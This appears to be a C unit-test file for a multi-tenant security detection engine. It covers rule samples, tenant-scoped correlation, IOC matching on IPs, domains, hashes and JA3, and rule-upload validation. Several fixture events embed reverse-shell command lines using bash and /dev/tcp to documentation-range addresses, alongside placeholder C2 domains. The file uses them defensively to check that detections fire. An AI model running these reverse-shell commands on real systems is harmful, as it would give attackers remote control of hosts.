/*
 * test_detect.c - central detection over stored events: every rules/linux rule raises its
 * alert on its positive samples and none on its negative ones; correlation counts within a
 * tenant (across its hosts) and never across tenants; IOC matches on hashes, addresses, DNS
 * names and answers (once per indicator and event); agent-local alerts become alerts; rules
 * disabled per tenant; unreadable events counted without shifting the others; rule upload
 * validation with line numbers.
 */
#include <dirent.h>
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "bannin/alloc.h"
#include "bannin/error.h"
#include "bannin/ioc.h"
#include "manager/detect.h"

#define MAXA 4096

struct got {
    char rule[MAXA][64];
    char source[MAXA][16];
    char host[MAXA][64];
    char key[MAXA][128];
    int64_t tenant[MAXA];
    int64_t seq[MAXA];
    int level[MAXA];
    char json[MAXA > 64 ? 64 : MAXA][2048];
    int n;
};

static int
collect(void *ctx, const struct triage_alert_in *a)
{
    struct got *g = ctx;
    if (g->n >= MAXA)
        return 0;
    int i = g->n++;
    snprintf(g->rule[i], sizeof(g->rule[i]), "%s", a->rule_id);
    snprintf(g->source[i], sizeof(g->source[i]), "%s", a->source);
    snprintf(g->host[i], sizeof(g->host[i]), "%s", a->host ? a->host : "");
    snprintf(g->key[i], sizeof(g->key[i]), "%s", a->key ? a->key : "");
    g->tenant[i] = a->tenant_id;
    g->seq[i] = a->seq;
    g->level[i] = a->level;
    if (i < 64)
        snprintf(g->json[i], sizeof(g->json[i]), "%s", a->json ? a->json : "");
    /* the alert context is JSON */
    assert_true(a->json && a->json[0] == '{');
    return 0;
}

static struct detect_rules *rules;

static int
setup(void **state)
{
    (void)state;
    struct detect_load_stats st;
    int rc = detect_rules_load(&rules, NULL, 0, &st);
    if (rc) {
        fprintf(stderr, "cannot load rules: %s:%lu: %s\n", st.first.file, st.first.line,
                st.first.msg);
        return -1;
    }
    return 0;
}

static int
teardown(void **state)
{
    (void)state;
    detect_rules_free(rules);
    return 0;
}

/* Lines of a file as store events of one agent. */
struct evs {
    struct store_event ev[256];
    char *lines[256];
    size_t n;
};

static void
evs_add(struct evs *e, const char *json, int event_id)
{
    size_t i = e->n++;
    e->lines[i] = strdup(json);
    memset(&e->ev[i], 0, sizeof(e->ev[i]));
    e->ev[i].agent_id = 3;
    e->ev[i].seq = (int64_t)i + 100;
    e->ev[i].ts_ns = 1764064800000000000LL + (int64_t)i * 1000000000LL;
    e->ev[i].received_ns = e->ev[i].ts_ns;
    e->ev[i].event_id = event_id;
    e->ev[i].json = e->lines[i];
    e->ev[i].json_len = strlen(json);
}

static void
evs_free(struct evs *e)
{
    for (size_t i = 0; i < e->n; i++)
        free(e->lines[i]);
    e->n = 0;
}

static size_t
evs_load(struct evs *e, const char *path)
{
    FILE *f = fopen(path, "r");
    if (!f)
        return 0;
    char line[65536];
    size_t n = 0;
    while (fgets(line, sizeof(line), f) && e->n < 256) {
        line[strcspn(line, "\n")] = '\0';
        if (!line[0])
            continue;
        evs_add(e, line, 0);
        n++;
    }
    fclose(f);
    return n;
}

static int
count_rule(const struct got *g, const char *rule)
{
    int n = 0;
    for (int i = 0; i < g->n; i++)
        n += strcmp(g->rule[i], rule) == 0;
    return n;
}

/* Every rule with samples: each positive line raises it, no negative line does. Rules a
 * correlation references do not alert by themselves (generate: false): quiet on both. */
static void
test_rules_samples(void **state)
{
    (void)state;
    char dir[4096];
    snprintf(dir, sizeof(dir), "%s/rules/linux", BN_SOURCE_DIR);
    DIR *dp = opendir(dir);
    assert_non_null(dp);
    struct dirent *de;
    int checked = 0;
    static struct got g;
    static char corr_text[1 << 16];
    size_t ct = 0;
    while ((de = readdir(dp))) {
        char path[8192];
        snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
        FILE *f = fopen(path, "r");
        if (!f)
            continue;
        char buf[16384];
        size_t n = fread(buf, 1, sizeof(buf) - 1, f);
        buf[n] = '\0';
        fclose(f);
        if (strstr(buf, "\ncorrelation:") && ct + n < sizeof(corr_text)) {
            memcpy(corr_text + ct, buf, n);
            ct += n;
            corr_text[ct] = '\0';
        }
    }
    rewinddir(dp);
    while ((de = readdir(dp))) {
        size_t l = strlen(de->d_name);
        if (l < 5 || strcmp(de->d_name + l - 4, ".yml") != 0)
            continue;
        char path[8192], id[128] = "";
        snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
        FILE *f = fopen(path, "r");
        assert_non_null(f);
        char line[4096], name[160] = "";
        bool corr = false;
        while (fgets(line, sizeof(line), f)) {
            if (strncmp(line, "id: ", 4) == 0 && !id[0])
                snprintf(id, sizeof(id), "%.*s", (int)strcspn(line + 4, "\r\n"), line + 4);
            if (strncmp(line, "name: ", 6) == 0 && !name[0])
                snprintf(name, sizeof(name), "- %.*s\n", (int)strcspn(line + 6, "\r\n"),
                         line + 6);
            if (strncmp(line, "correlation:", 12) == 0)
                corr = true;
        }
        fclose(f);
        if (corr || !id[0])
            continue;
        bool referenced = name[0] && strstr(corr_text, name);
        for (int pos = 1; pos >= 0; pos--) {
            struct evs e = {.n = 0};
            snprintf(path, sizeof(path), "%s/%.*s.%s.ndjson", dir, (int)(l - 4), de->d_name,
                     pos ? "positive" : "negative");
            size_t n = evs_load(&e, path);
            if (n == 0)
                continue;
            struct detect *d;
            assert_int_equal(detect_new(&d, rules, collect, &g, NULL), 0);
            for (size_t i = 0; i < n; i++) {
                g.n = 0;
                assert_int_equal(detect_batch(d, 1, &e.ev[i], 1, e.ev[i].ts_ns), 0);
                int hits = count_rule(&g, id);
                if ((pos && !referenced) ? hits != 1 : hits != 0)
                    fail_msg("%s line %zu: rule %s raised %d alerts", path, i + 1, id, hits);
            }
            struct detect_stats st;
            detect_get_stats(d, &st);
            assert_int_equal(st.events, n);
            assert_int_equal(st.unreadable, 0);
            detect_free(d);
            evs_free(&e);
            checked++;
        }
    }
    closedir(dp);
    assert_true(checked >= 40);
}

static void
test_alert_fields(void **state)
{
    (void)state;
    static struct got g;
    g.n = 0;
    struct detect *d;
    assert_int_equal(detect_new(&d, rules, collect, &g, NULL), 0);
    struct evs e = {.n = 0};
    evs_add(&e,
            "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"UtcTime\":\"2026-11-25 "
            "10:00:00.123\",\"Computer\":\"web-01\",\"ProcessGuid\":\"{p-1}\","
            "\"ParentProcessGuid\":\"{p-0}\",\"ProcessId\":4007,\"Image\":\"/usr/bin/bash\","
            "\"CommandLine\":\"bash -c bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\","
            "\"User\":\"www-data\",\"ParentImage\":\"/usr/sbin/apache2\"}",
            1);
    /* not JSON: skipped and counted, the next event keeps its own sequence number */
    evs_add(&e, "this is not json", 0);
    evs_add(&e,
            "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"web-01\","
            "\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -c bash -i >& "
            "/dev/tcp/203.0.113.51/4444 0>&1\",\"User\":\"www-data\"}",
            1);
    assert_int_equal(detect_batch(d, 5, e.ev, e.n, 1764064800000000000LL), 0);
    assert_true(g.n >= 2);
    int first = -1, second = -1;
    for (int i = 0; i < g.n; i++) {
        if (strstr(g.key[i], "203.0.113.50"))
            first = i;
        if (strstr(g.key[i], "203.0.113.51"))
            second = i;
    }
    assert_true(first >= 0 && second >= 0);
    assert_int_equal(g.seq[first], 100);
    assert_int_equal(g.seq[second], 102);
    assert_string_equal(g.source[first], "central");
    assert_string_equal(g.host[first], "web-01");
    assert_int_equal(g.tenant[first], 5);
    assert_true(g.level[first] >= 3);
    assert_non_null(strstr(g.json[first], "\"rule\":{\"id\":\""));
    assert_non_null(strstr(g.json[first], "\"event\":{\"Channel\""));
    struct detect_stats st;
    detect_get_stats(d, &st);
    assert_int_equal(st.events, 2);
    assert_int_equal(st.unreadable, 1);

    /* disabled for tenant 5: silent there, still raised for tenant 6 */
    assert_int_equal(detect_set_rule_enabled(d, 5, g.rule[first], false), 0);
    char rid[64];
    snprintf(rid, sizeof(rid), "%s", g.rule[first]);
    g.n = 0;
    assert_int_equal(detect_batch(d, 5, e.ev, 1, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, rid), 0);
    assert_int_equal(detect_batch(d, 6, e.ev, 1, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, rid), 1);
    assert_int_equal(detect_set_rule_enabled(d, 5, rid, true), 0);
    g.n = 0;
    assert_int_equal(detect_batch(d, 5, e.ev, 1, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, rid), 1);
    detect_free(d);
    evs_free(&e);
}

static const char corr_rules[] =
    "title: Tool Run\n"
    "id: 11111111-0000-0000-0000-000000000001\n"
    "name: tool_run\n"
    "logsource:\n  product: linux\n  category: process_creation\n"
    "detection:\n  sel:\n    Image|endswith: '/nmap'\n  condition: sel\n"
    "level: low\n"
    "---\n"
    "title: Same User Runs Tool On Many Hosts\n"
    "id: 11111111-0000-0000-0000-000000000002\n"
    "correlation:\n  type: value_count\n  rules:\n    - tool_run\n  group-by:\n    - User\n"
    "  timespan: 10m\n  condition:\n    field: Computer\n    gte: 3\n"
    "level: high\n"
    "tags:\n  - attack.lateral-movement\n";

static void
test_correlation_tenants(void **state)
{
    (void)state;
    struct detect_rules *cr;
    struct detect_load_stats ls;
    int rc = detect_rules_load_mem(&cr, corr_rules, sizeof(corr_rules) - 1, "corr.yml", &ls);
    if (rc)
        fail_msg("%s:%lu: %s", ls.first.file, ls.first.line, ls.first.msg);
    assert_int_equal(ls.failed, 0);
    static struct got g;
    g.n = 0;
    struct detect *d;
    assert_int_equal(detect_new(&d, cr, collect, &g, NULL), 0);
    char ev[512];
    struct evs e = {.n = 0};
    for (int h = 0; h < 3; h++) {
        snprintf(ev, sizeof(ev),
                 "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"UtcTime\":"
                 "\"2026-11-25 10:0%d:00.000\",\"Computer\":\"host-%d\",\"Image\":"
                 "\"/usr/bin/nmap\",\"User\":\"mallory\"}",
                 h, h);
        evs_add(&e, ev, 1);
    }
    /* two hosts in tenant 1, the third in tenant 2: no tenant saw three hosts */
    assert_int_equal(detect_batch(d, 1, e.ev, 2, 1764064800000000000LL), 0);
    assert_int_equal(detect_batch(d, 2, e.ev + 2, 1, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, "11111111-0000-0000-0000-000000000002"), 0);
    /* a rule a correlation references does not alert by itself (Sigma's generate: false) */
    assert_int_equal(count_rule(&g, "11111111-0000-0000-0000-000000000001"), 0);
    /* the third host in tenant 1: one correlation alert for the tenant, keyed by the user */
    assert_int_equal(detect_batch(d, 1, e.ev + 2, 1, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, "11111111-0000-0000-0000-000000000002"), 1);
    int i = g.n - 1;
    while (i >= 0 && strcmp(g.rule[i], "11111111-0000-0000-0000-000000000002") != 0)
        i--;
    assert_true(i >= 0);
    assert_int_equal(g.tenant[i], 1);
    assert_string_equal(g.key[i], "User=mallory");
    assert_string_equal(g.host[i], "");
    assert_int_equal(g.level[i], 3);
    assert_non_null(strstr(g.json[i], "\"correlation\":{\"count\":3"));
    struct detect_stats st;
    detect_get_stats(d, &st);
    assert_int_equal(st.corr_alerts, 1);
    detect_tick(d, INT64_MAX);
    detect_free(d);
    detect_rules_free(cr);
    evs_free(&e);
}

static void
test_iocs(void **state)
{
    (void)state;
    static struct got g;
    g.n = 0;
    struct detect *d;
    assert_int_equal(detect_new(&d, rules, collect, &g, NULL), 0);
    struct bn_ioc_set *t7 = bn_ioc_set_new(), *global = bn_ioc_set_new();
    const char csv[] = "ip,198.51.100.0/24,feed-a\n"
                       "domain,evil.example,feed-a\n"
                       "sha256,82c0aad1330a0c428ee3f9b7ff0d5ba7e5238c550c58c17aa4ed27382902e002,"
                       "feed-a,bad bash\n";
    struct bn_ioc_load_stats ls;
    assert_int_equal(bn_ioc_load_csv(t7, csv, sizeof(csv) - 1, "t7.csv", NULL, &ls, NULL), 0);
    assert_int_equal(ls.added, 3);
    assert_int_equal(bn_ioc_add(global, BN_IOC_IP, "203.0.113.9", 11, "global", NULL, NULL), 0);
    assert_int_equal(detect_set_iocs(d, 7, t7), 0);
    assert_int_equal(detect_set_iocs(d, 0, global), 0);
    struct evs e = {.n = 0};
    evs_add(&e,
            "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":3,\"Computer\":\"db-1\","
            "\"Image\":\"/usr/bin/curl\",\"DestinationIp\":\"198.51.100.77\",\"SourceIp\":"
            "\"10.0.0.5\",\"DestinationPort\":443}",
            3);
    evs_add(&e,
            "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":22,\"Computer\":\"db-1\","
            "\"Image\":\"/usr/bin/curl\",\"QueryName\":\"cdn.Evil.Example\",\"QueryResults\":"
            "\"type:  5 evil.example;::ffff:203.0.113.9;198.51.100.77;\"}",
            22);
    evs_add(&e,
            "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"db-1\","
            "\"Image\":\"/usr/bin/true\",\"CommandLine\":\"true\",\"Hashes\":\"MD5=00,SHA256="
            "82C0AAD1330A0C428EE3F9B7FF0D5BA7E5238C550C58C17AA4ED27382902E002\"}",
            1);
    assert_int_equal(detect_batch(d, 7, e.ev, e.n, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, "ioc.ip"), 3); /* ev 0; ev 1: global + tenant answer */
    assert_int_equal(count_rule(&g, "ioc.domain"), 1);
    assert_int_equal(count_rule(&g, "ioc.sha256"), 1);
    for (int i = 0; i < g.n; i++) {
        if (strncmp(g.rule[i], "ioc.", 4) != 0)
            continue;
        assert_string_equal(g.source[i], "ioc");
        assert_string_equal(g.host[i], "db-1");
        assert_int_equal(g.tenant[i], 7);
    }
    int i = 0;
    while (strcmp(g.rule[i], "ioc.domain") != 0)
        i++;
    assert_string_equal(g.key[i], "evil.example");
    assert_non_null(strstr(g.json[i], "\"ioc\":{\"type\":\"domain\",\"value\":\"evil.example\","
                                      "\"field\":\"QueryName\",\"observed\":\"cdn.Evil.Example\""));
    /* another tenant sees only the global list */
    g.n = 0;
    assert_int_equal(detect_batch(d, 8, e.ev, e.n, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, "ioc.ip"), 1);
    assert_int_equal(count_rule(&g, "ioc.domain") + count_rule(&g, "ioc.sha256"), 0);
    struct detect_stats st;
    detect_get_stats(d, &st);
    assert_int_equal(st.ioc_matches, 6);
    detect_free(d);
    bn_ioc_set_free(t7);
    bn_ioc_set_free(global);
    evs_free(&e);
}

static void
test_agent_alerts(void **state)
{
    (void)state;
    static struct got g;
    g.n = 0;
    struct detect *d;
    assert_int_equal(detect_new(&d, rules, collect, &g, NULL), 0);
    struct evs e = {.n = 0};
    evs_add(&e,
            "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":140,\"Computer\":\"web-02\","
            "\"ProcessGuid\":\"{g-9}\",\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -i\","
            "\"User\":\"alice\",\"rule_id\":\"r-local-1\",\"rule_title\":\"Local Rule\","
            "\"rule_level\":\"critical\",\"rule_tags\":\"attack.execution,attack.t1059.004\","
            "\"trigger_kind\":11,\"trigger\":{\"EventID\":11,\"TargetFilename\":"
            "\"/etc/cron.d/x\",\"Image\":\"/usr/bin/bash\"}}",
            140);
    assert_int_equal(detect_batch(d, 2, e.ev, e.n, 1764064800000000000LL), 0);
    assert_int_equal(g.n, 1);
    assert_string_equal(g.rule[0], "r-local-1");
    assert_string_equal(g.source[0], "agent");
    assert_string_equal(g.host[0], "web-02");
    assert_int_equal(g.level[0], 4);
    assert_string_equal(g.key[0], "/etc/cron.d/x");
    assert_int_equal(g.seq[0], 100);
    assert_non_null(strstr(g.json[0], "{\"source\":\"agent\",\"event\":{\"Channel\""));
    struct detect_stats st;
    detect_get_stats(d, &st);
    assert_int_equal(st.agent_alerts, 1);
    assert_int_equal(st.rule_hits, 0);
    detect_free(d);
    evs_free(&e);
}

static void
test_sensor(void **state)
{
    (void)state;
    static struct got g;
    g.n = 0;
    struct detect *d;
    assert_int_equal(detect_new(&d, rules, collect, &g, NULL), 0);
    struct bn_ioc_set *set = bn_ioc_set_new();
    assert_int_equal(bn_ioc_add(set, BN_IOC_DOMAIN, "c2.test", 7, "feed", NULL, NULL), 0);
    assert_int_equal(bn_ioc_add(set, BN_IOC_JA3, "e7d705a3286e19ea42f587b344ee6865", 32, "feed",
                                NULL, NULL), 0);
    assert_int_equal(detect_set_iocs(d, 4, set), 0);
    struct evs e = {.n = 0};
    evs_add(&e, "{\"timestamp\":\"2026-11-25T10:00:00.000000+0000\",\"event_type\":\"alert\","
                "\"src_ip\":\"10.0.0.5\",\"dest_ip\":\"10.0.0.0\",\"proto\":\"TCP\","
                "\"alert\":{\"action\":\"allowed\",\"gid\":1,\"signature_id\":9000001,"
                "\"rev\":1,\"signature\":\"Vertical port scan\",\"category\":\"scan\","
                "\"severity\":2,\"metadata\":{\"mitre_technique_id\":[\"T1046\"]},"
                "\"score\":80,\"count\":3}}", 0);
    evs_add(&e, "{\"timestamp\":\"2026-11-25T10:00:01.000000+0000\",\"event_type\":\"dns\","
                "\"src_ip\":\"10.0.0.7\",\"dest_ip\":\"10.0.0.53\",\"dns\":{\"type\":"
                "\"query\",\"rrname\":\"www.C2.test\"}}", 0);
    evs_add(&e, "{\"timestamp\":\"2026-11-25T10:00:02.000000+0000\",\"event_type\":\"tls\","
                "\"src_ip\":\"10.0.0.7\",\"dest_ip\":\"198.51.100.1\",\"tls\":{\"sni\":"
                "\"cdn.c2.test\",\"ja3\":{\"hash\":\"e7d705a3286e19ea42f587b344ee6865\"}}}", 0);
    assert_int_equal(detect_batch(d, 4, e.ev, e.n, 1764064800000000000LL), 0);
    int i = 0;
    while (i < g.n && strcmp(g.rule[i], "sensor.9000001") != 0)
        i++;
    assert_true(i < g.n);
    assert_string_equal(g.source[i], "sensor");
    assert_string_equal(g.host[i], "10.0.0.5");
    assert_string_equal(g.key[i], "10.0.0.5>10.0.0.0");
    assert_int_equal(g.level[i], 2);
    /* dns.rrname, and tls.sni against the domain list (a listed domain covers its names) */
    assert_int_equal(count_rule(&g, "ioc.domain"), 2);
    assert_int_equal(count_rule(&g, "ioc.ja3"), 1);
    struct detect_stats st;
    detect_get_stats(d, &st);
    assert_int_equal(st.sensor_alerts, 1);
    assert_int_equal(st.ioc_matches, 3); /* rrname; sni (domain list) and ja3 in one record */
    detect_free(d);
    bn_ioc_set_free(set);
    evs_free(&e);
}

static void
test_uploads(void **state)
{
    (void)state;
    static const char up5[] =
        "title: Frobnicate Run\nid: up-5-1\nname: frob_run\nlogsource:\n  product: linux\n"
        "  category: process_creation\ndetection:\n  s:\n    Image|endswith: /frobnicate\n"
        "  condition: s\nlevel: high\n";
    static const char up0[] =
        "title: Everyone Quux\nid: up-0-1\nlogsource:\n  product: linux\n"
        "  category: process_creation\ndetection:\n  s:\n    Image|endswith: /quux\n"
        "  condition: s\nlevel: low\n";
    static const char bad[] = "title: broken\nid: up-5-2\ndetection: [\n";
    struct detect_upload up[] = {
        {5, "up-5-1", up5, sizeof(up5) - 1},
        {0, "up-0-1", up0, sizeof(up0) - 1},
        {5, "up-5-2", bad, sizeof(bad) - 1},
    };
    struct detect_rules *r;
    struct detect_load_stats ls;
    assert_int_equal(detect_rules_load_ex(&r, NULL, 0, up, 3, &ls), 0);
    assert_int_equal(ls.failed, 1);
    if (!strstr(ls.first.file, "upload:5:up-5-2"))
        fail_msg("first failure: %s:%lu: %s (%d)", ls.first.file, ls.first.line, ls.first.msg, ls.first.code);
    assert_int_equal(detect_rules_count(r), detect_rules_count(rules) + 2);
    static struct got g;
    g.n = 0;
    struct detect *d;
    assert_int_equal(detect_new(&d, r, collect, &g, NULL), 0);
    struct evs e = {.n = 0};
    evs_add(&e, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"h\","
                "\"Image\":\"/opt/frobnicate\",\"CommandLine\":\"frobnicate\"}", 1);
    evs_add(&e, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"h\","
                "\"Image\":\"/opt/quux\",\"CommandLine\":\"quux\"}", 1);
    /* tenant 5 owns up-5-1; everyone gets up-0-1 */
    assert_int_equal(detect_batch(d, 5, e.ev, 2, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, "up-5-1"), 1);
    assert_int_equal(count_rule(&g, "up-0-1"), 1);
    g.n = 0;
    assert_int_equal(detect_batch(d, 6, e.ev, 2, 1764064800000000000LL), 0);
    assert_int_equal(count_rule(&g, "up-5-1"), 0);
    assert_int_equal(count_rule(&g, "up-0-1"), 1);
    detect_free(d);
    detect_rules_free(r);
    evs_free(&e);
}

/* Every allocation of a worker and a batch may fail: clean errors, no crash, no leak. */
static void
test_alloc_failures(void **state)
{
    (void)state;
    static struct got g;
    struct evs e = {.n = 0};
    evs_add(&e, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":1,\"Computer\":\"h\","
                "\"Image\":\"/usr/bin/bash\",\"CommandLine\":\"bash -i >& /dev/tcp/1.2.3.4/1 "
                "0>&1\",\"Hashes\":\"SHA256=82C0AAD1330A0C428EE3F9B7FF0D5BA7E5238C550C58C17AA4ED"
                "27382902E002\"}", 1);
    evs_add(&e, "{\"Channel\":\"Linux-Sysmon/Operational\",\"EventID\":140,\"Computer\":\"h\","
                "\"rule_id\":\"x\",\"trigger_kind\":1}", 140);
    struct bn_ioc_set *set = bn_ioc_set_new();
    assert_int_equal(bn_ioc_add(set, -2, "82c0aad1330a0c428ee3f9b7ff0d5ba7e5238c550c58c17aa4ed2738"
                                "2902e002", 64, "t", NULL, NULL), 0);
    for (unsigned long n = 1;; n++) {
        g.n = 0;
        bn_alloc_fail_after(n);
        struct detect *d = NULL;
        int rc = detect_new(&d, rules, collect, &g, NULL);
        if (rc == 0)
            rc = detect_set_iocs(d, 1, set);
        if (rc == 0)
            rc = detect_batch(d, 1, e.ev, e.n, 1764064800000000000LL);
        bn_alloc_fail_after(0);
        struct detect_stats st = {0};
        if (d)
            detect_get_stats(d, &st);
        detect_free(d);
        if (rc == 0 && st.match_errors == 0 && g.n == 3)
            break;
        assert_true(rc == 0 || rc == BN_ENOMEM);
        assert_true(n < 100000);
    }
    bn_ioc_set_free(set);
    evs_free(&e);
}

static void
test_validate(void **state)
{
    (void)state;
    char id[64], title[256];
    struct bn_diag dg;
    assert_int_equal(detect_rule_validate(corr_rules, 300, id, sizeof(id), title, sizeof(title),
                                          &dg) == 0 ? 0 : 1, 1); /* cut mid-document */
    const char good[] = "title: T\nid: abc-1\nlogsource:\n  product: linux\n  category: "
                        "process_creation\ndetection:\n  s:\n    Image: /x\n  condition: s\n";
    assert_int_equal(detect_rule_validate(good, sizeof(good) - 1, id, sizeof(id), title,
                                          sizeof(title), &dg), 0);
    assert_string_equal(id, "abc-1");
    assert_string_equal(title, "T");
    const char bad[] = "title: T\nid: abc-2\nlogsource:\n  product: linux\ndetection:\n  s:\n"
                       "    Image|contians: /x\n  condition: s\n";
    assert_true(detect_rule_validate(bad, sizeof(bad) - 1, id, sizeof(id), title, sizeof(title),
                                     &dg) != 0);
    assert_true(dg.msg[0] != '\0');
    assert_non_null(strstr(dg.msg, "contians"));
    const char noid[] = "title: T\nlogsource:\n  product: linux\ndetection:\n  s:\n    Image: /x\n"
                        "  condition: s\n";
    assert_int_equal(detect_rule_validate(noid, sizeof(noid) - 1, id, sizeof(id), title,
                                          sizeof(title), &dg), BN_EPARSE);
    assert_non_null(strstr(dg.msg, "no 'id'"));
}

int
main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_rules_samples), cmocka_unit_test(test_alert_fields),
        cmocka_unit_test(test_correlation_tenants), cmocka_unit_test(test_iocs),
        cmocka_unit_test(test_agent_alerts), cmocka_unit_test(test_sensor),
        cmocka_unit_test(test_uploads),
        cmocka_unit_test(test_alloc_failures), cmocka_unit_test(test_validate),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
